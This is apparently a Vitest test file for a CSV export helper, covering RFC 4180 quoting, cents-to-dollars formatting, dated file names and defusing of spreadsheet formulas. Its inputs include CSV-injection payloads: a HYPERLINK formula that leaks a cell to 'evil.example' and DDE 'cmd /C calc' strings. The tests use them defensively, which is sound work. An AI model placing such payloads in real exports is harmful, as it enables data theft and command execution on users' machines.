import { describe, expect, it } from 'vitest';
import { csvCell, csvDollars, csvFileName, csvRow, READ_BY_PEOPLE } from './csv';
import { parseCsv } from './parse-csv';

describe('csvCell', () => {
  it.each([
    ['plain', 'plain'],
    ['', ''],
    [null, ''],
    [undefined, ''],
    [42, '42'],
    ['Smith, John', '"Smith, John"'],
    ['The "big" one', '"The ""big"" one"'],
    ['two\nlines', '"two\nlines"'],
    ['two\r\nlines', '"two\r\nlines"'],
    ['×, é and 漢字', '"×, é and 漢字"'],
  ])('writes %j as %j (RFC 4180: quoted only when it must be, quotes doubled)', (value, written) => {
    expect(csvCell(value)).toBe(written);
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
    ['=1+2', "'=1+2"],
    ['-2+3', "'-2+3"],
    ['+A1', "'+A1"],
    ['-1+cmd|\' /C calc\'!A0', "'-1+cmd|' /C calc'!A0"],
    ['+1 555 0100 =A1', "'+1 555 0100 =A1"],
    ['+', "'+"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
  ])('defuses %j, which a spreadsheet would run as a formula, with a leading quote', (value, written) => {
    expect(csvCell(value)).toBe(written);
  });

  it.each(['+1 217 555 0100', '+44 (0)20 7946 0958', '-8.98', '-1', '+1-217-555-0100'])(
    'leaves %j alone in an export people read: a signed number or phone calls and references nothing, and a quote would show in the cell',
    (value) => {
      expect(csvCell(value, READ_BY_PEOPLE)).toBe(value);
      // The catalogue's export, which its import reads back, keeps the quote its reader expects.
      expect(csvCell(value)).toBe(`'${value}`);
    },
  );

  it('defuses a formula in an export people read as everywhere else', () => {
    for (const formula of ['=1+2', '+A1', '-2+3', '@SUM(A1:A9)', '+1 555 0100 =A1']) expect(csvCell(formula, READ_BY_PEOPLE)).toBe(`'${formula}`);
  });

  it('leaves a formula sign that is not first alone', () => {
    expect(csvCell('a=b+c')).toBe('a=b+c');
    expect(csvCell('TH-100042')).toBe('TH-100042');
  });
});

describe('csvRow and parseCsv', () => {
  it('ends a record with CRLF and reads back exactly what was written', () => {
    const hostile = ['Ann "Nan" O\'Neil', '1 Main St,\nApt 2', '=cmd|\' /C calc\'!A0', '', 'a\r\nb', 'plain'];
    const text = csvRow(hostile) + csvRow(['second', 'row']);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(parseCsv(`\uFEFF${text}`)).toEqual([
      ['Ann "Nan" O\'Neil', '1 Main St,\nApt 2', "'=cmd|' /C calc'!A0", '', 'a\r\nb', 'plain'],
      ['second', 'row'],
    ]);
  });
});

describe('csvDollars', () => {
  it.each([
    [0, '0.00'],
    [5, '0.05'],
    [1999, '19.99'],
    [123450, '1234.50'],
    [100000000, '1000000.00'],
  ])('writes %d cents as %s', (cents, dollars) => {
    expect(csvDollars(cents)).toBe(dollars);
  });
});

describe('csvFileName', () => {
  it("names the file after what it holds and the day it was made, in UTC", () => {
    expect(csvFileName('orders', new Date('2026-11-25T23:59:59.999Z'))).toBe('orders-2026-11-25.csv');
    expect(csvFileName('customers', new Date('2026-11-26T00:00:00+01:00'))).toBe('customers-2026-11-25.csv');
  });
});
